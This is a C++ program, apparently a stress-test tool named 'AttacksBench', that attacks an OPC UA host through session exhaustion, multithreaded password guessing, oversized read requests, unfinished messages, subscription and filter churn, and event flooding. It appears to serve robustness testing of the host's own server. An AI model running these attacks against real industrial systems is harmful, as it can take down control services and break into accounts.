// Attacks a host in one of several ways until it is killed; prints "attacking" once it has begun.

#include "RawSession.h"
#include "Report.h"
#include "SocketBytes.h"
#include "UaClient.h"

#include <OpcUa/UaException.h>

#include <array>
#include <atomic>
#include <cstdlib>
#include <exception>
#include <iostream>
#include <memory>
#include <optional>
#include <string>
#include <system_error>
#include <thread>
#include <utility>
#include <vector>

using Bench::RawSession;
using Bench::UaClient;
using Fuzz::Value;
using OpcUa::RequireGood;
using OpcUa::ViewOf;

namespace {

struct Options
{
    std::string url;
    std::string path;
    std::string user;
};

std::uint16_t PortOf(const Options& options)
{
    return Bench::GetPort(options.url.c_str());
}

void Announce()
{
    static bool isAnnounced = false;
    if (!std::exchange(isAnnounced, true))
        std::cout << "attacking" << std::endl;
}

/// Returns a connection, or nothing if the host takes no more for now.
std::unique_ptr<RawSession> TryConnect(const Options& options)
{
    try {
        return std::make_unique<RawSession>(PortOf(options));
    } catch (const std::exception&) {
        return nullptr;
    }
}

/// Returns a session; tries again until the host has a place for it.
std::unique_ptr<RawSession> LogIn(const Options& options)
{
    for (;;)
        if (auto session = TryConnect(options); session && session->LogIn())
            return session;
}

template <typename T>
void Resize(T*& elements, std::size_t& size, std::size_t wanted, std::size_t type)
{
    void* array = elements;
    RequireGood(UA_Array_resize(&array, &size, wanted, &UA_TYPES[type]), "making an array");
    elements = static_cast<T*>(array);
}

/// Creates one session after the other and activates none.
[[noreturn]] void CreateSessions(const Options& options)
{
    std::unique_ptr<RawSession> session;
    for (;;) {
        if (!session || !session->IsOpen())
            session = TryConnect(options);
        if (!session)
            continue;
        Value request(UA_TYPES[UA_TYPES_CREATESESSIONREQUEST]);
        request.As<UA_CreateSessionRequest>().requestedSessionTimeout = 3'600'000;
        session->Ask(request);
        Announce();
    }
}

/// Guesses a user's password, in six places at once.
[[noreturn]] void GuessPasswords(const Options& options)
{
    std::vector<std::thread> guessers(6);
    for (std::thread& guesser : guessers)
        guesser = std::thread([&options] {
            for (;;)
                try {
                    const UaClient client(options.url, options.user, "a guess");
                } catch (const std::exception&) {
                    continue; // it was wrong
                }
        });
    Announce();
    for (;;)
        guessers.front().join();
}

/// Reads one value twenty thousand times in a request.
[[noreturn]] void ReadMuch(const Options& options)
{
    Value request(UA_TYPES[UA_TYPES_READREQUEST]);
    auto& read = request.As<UA_ReadRequest>();
    Resize(read.nodesToRead, read.nodesToReadSize, 20'000, UA_TYPES_READVALUEID);
    for (std::size_t i = 0; i < read.nodesToReadSize; ++i) {
        read.nodesToRead[i].nodeId =
            UA_NODEID_NUMERIC(0, UA_NS0ID_SERVER_SERVERCAPABILITIES_LOCALEIDARRAY);
        read.nodesToRead[i].attributeId = UA_ATTRIBUTEID_VALUE;
    }
    auto session = LogIn(options);
    for (;;) {
        session->Ask(request);
        Announce();
        if (!session->IsOpen())
            session = LogIn(options);
    }
}

/// Sends large messages on many connections and ends none of them.
[[noreturn]] void SendUnfinished(const Options& options)
{
    const std::string chunk(60'000, 'u');
    std::array<std::unique_ptr<RawSession>, 24> sessions;
    for (;;) {
        for (auto& session : sessions) {
            if (!session || !session->IsOpen())
                session = TryConnect(options);
            if (session)
                session->SendUnfinished(chunk);
        }
        Announce();
    }
}

Value MakeSubscribing()
{
    Value request(UA_TYPES[UA_TYPES_CREATESUBSCRIPTIONREQUEST]);
    auto& wanted = request.As<UA_CreateSubscriptionRequest>();
    wanted.requestedPublishingInterval = 100;
    wanted.requestedLifetimeCount = 10'000;
    wanted.requestedMaxKeepAliveCount = 1'000;
    wanted.publishingEnabled = true;
    return request;
}

/// Items on the events of a node of the host, with a condition or without.
Value MakeMonitoring(UA_UInt32 subscription, std::size_t count, bool hasCondition)
{
    Value request(UA_TYPES[UA_TYPES_CREATEMONITOREDITEMSREQUEST]);
    auto& wanted = request.As<UA_CreateMonitoredItemsRequest>();
    wanted.subscriptionId = subscription;
    Resize(wanted.itemsToCreate, wanted.itemsToCreateSize, count,
           UA_TYPES_MONITOREDITEMCREATEREQUEST);
    for (std::size_t i = 0; i < count; ++i) {
        UA_MonitoredItemCreateRequest& item = wanted.itemsToCreate[i];
        item.itemToMonitor.nodeId = UA_NODEID_NUMERIC(0, UA_NS0ID_SERVER);
        item.itemToMonitor.attributeId = UA_ATTRIBUTEID_EVENTNOTIFIER;
        item.monitoringMode = UA_MONITORINGMODE_REPORTING;
        item.requestedParameters.queueSize = 1'000;
        auto* const filter = UA_EventFilter_new();
        UA_ExtensionObject_setValue(&item.requestedParameters.filter, filter,
                                    &UA_TYPES[UA_TYPES_EVENTFILTER]);
        Resize(filter->selectClauses, filter->selectClausesSize, 1,
               UA_TYPES_SIMPLEATTRIBUTEOPERAND);
        UA_SimpleAttributeOperand& field = filter->selectClauses[0];
        field.typeDefinitionId = UA_NODEID_NUMERIC(0, UA_NS0ID_BASEEVENTTYPE);
        field.attributeId = UA_ATTRIBUTEID_VALUE;
        Resize(field.browsePath, field.browsePathSize, 1, UA_TYPES_QUALIFIEDNAME);
        field.browsePath[0].name = UA_STRING_ALLOC("Message");
        if (!hasCondition)
            continue;
        Resize(filter->whereClause.elements, filter->whereClause.elementsSize, 1,
               UA_TYPES_CONTENTFILTERELEMENT);
        UA_ContentFilterElement& element = filter->whereClause.elements[0];
        element.filterOperator = UA_FILTEROPERATOR_ISNULL;
        Resize(element.filterOperands, element.filterOperandsSize, 1, UA_TYPES_EXTENSIONOBJECT);
        auto* const operand = UA_SimpleAttributeOperand_new();
        RequireGood(UA_SimpleAttributeOperand_copy(&field, operand), "copying an operand");
        UA_ExtensionObject_setValue(&element.filterOperands[0], operand,
                                    &UA_TYPES[UA_TYPES_SIMPLEATTRIBUTEOPERAND]);
    }
    return request;
}

/// Returns the subscription's number; 0 if the host refuses one.
UA_UInt32 Subscribe(RawSession& session)
{
    Value request = MakeSubscribing();
    auto answer = session.Ask(request);
    return answer && &answer->GetType() == &UA_TYPES[UA_TYPES_CREATESUBSCRIPTIONRESPONSE]
               ? answer->As<UA_CreateSubscriptionResponse>().subscriptionId
               : 0;
}

void Unsubscribe(RawSession& session, UA_UInt32 subscription)
{
    Value request(UA_TYPES[UA_TYPES_DELETESUBSCRIPTIONSREQUEST]);
    auto& unwanted = request.As<UA_DeleteSubscriptionsRequest>();
    Resize(unwanted.subscriptionIds, unwanted.subscriptionIdsSize, 1, UA_TYPES_UINT32);
    unwanted.subscriptionIds[0] = subscription;
    session.Ask(request);
}

/// Makes and removes items with conditions.
[[noreturn]] void ChurnFilters(const Options& options)
{
    auto session = LogIn(options);
    for (;;) {
        const UA_UInt32 subscription = Subscribe(*session);
        for (int i = 0; i < 10; ++i) {
            Value request = MakeMonitoring(subscription, 50, true);
            session->Ask(request);
        }
        Unsubscribe(*session, subscription);
        Announce();
        if (!session->IsOpen())
            session = LogIn(options);
    }
}

/// Returns a session with as many items on the events of all shared nodes as the host allows.
std::unique_ptr<RawSession> LogInToHear(const Options& options)
{
    auto session = LogIn(options);
    const UA_UInt32 subscription = Subscribe(*session);
    for (int i = 0; i < 60; ++i) {
        Value request = MakeMonitoring(subscription, 100, false);
        session->Ask(request);
    }
    return session;
}

/// Returns false if the host has closed the session, as it does when too many events wait for it.
bool IsThere(RawSession& session)
{
    if (!session.IsOpen())
        return false;
    Value request(UA_TYPES[UA_TYPES_READREQUEST]);
    auto answer = session.Ask(request);
    return answer &&
           answer->As<UA_ResponseHeader>().serviceResult != UA_STATUSCODE_BADSESSIONIDINVALID;
}

/// Lists a directory again and again for thousands of items. Each listing is waited for: those that
/// are only asked for would be done after the attack.
[[noreturn]] void ListForItems(const Options& options)
{
    auto hearing = LogInToHear(options);
    UaClient lister(options.url);
    const std::string name = "FileSystem";
    const UA_NodeId files = lister.GetSharedFiles(name);
    bool isListed = false;
    lister.Subscribe(files, [&](UA_DateTime) { isListed = true; });
    const UA_String path = ViewOf(options.path);
    const bool isRecursive = false;
    for (;;) {
        isListed = false;
        lister.Post(files, Bench::Method::List,
                    {Bench::MakeVariant(path), Bench::MakeVariant(isRecursive)},
                    [](const UA_CallMethodResult&) {});
        lister.Run([&] { return isListed; });
        Announce();
        if (!IsThere(*hearing))
            hearing = LogInToHear(options);
    }
}

/// Keeps one processor busy and leaves the host alone.
[[noreturn]] void KeepBusy()
{
    Announce();
    std::atomic<unsigned int> count{0}; // a loop without any effect may be left out
    for (;;)
        ++count;
}

} // namespace

int main(int argc, char** argv)
try {
    CLI::App app("treats a talvensor-host badly", "AttacksBench");
    Options options;
    const auto add = [&](const char* name, const char* text, void (*run)(const Options&)) {
        auto* const command = app.add_subcommand(name, text);
        command->add_option("--url", options.url)->required();
        command->add_option("--path", options.path, "a directory");
        command->add_option("--user", options.user, "whose password is guessed");
        command->callback([&options, run] { run(options); });
    };
    add("sessions", "creates sessions", [](const Options& given) { CreateSessions(given); });
    add("logins", "guesses passwords", [](const Options& given) { GuessPasswords(given); });
    add("reads", "reads much at once", [](const Options& given) { ReadMuch(given); });
    add("unfinished", "ends no message", [](const Options& given) { SendUnfinished(given); });
    add("filters", "makes filters", [](const Options& given) { ChurnFilters(given); });
    add("busy", "uses a processor alone", [](const Options&) { KeepBusy(); });
    add("items", "lists for many items", [](const Options& given) { ListForItems(given); });
    app.require_subcommand(1);
    return Bench::RunProgram(app, argc, argv);
} catch (const std::exception& error) {
    std::cerr << argv[0] << ": " << error.what() << "\n";
    return 1;
}
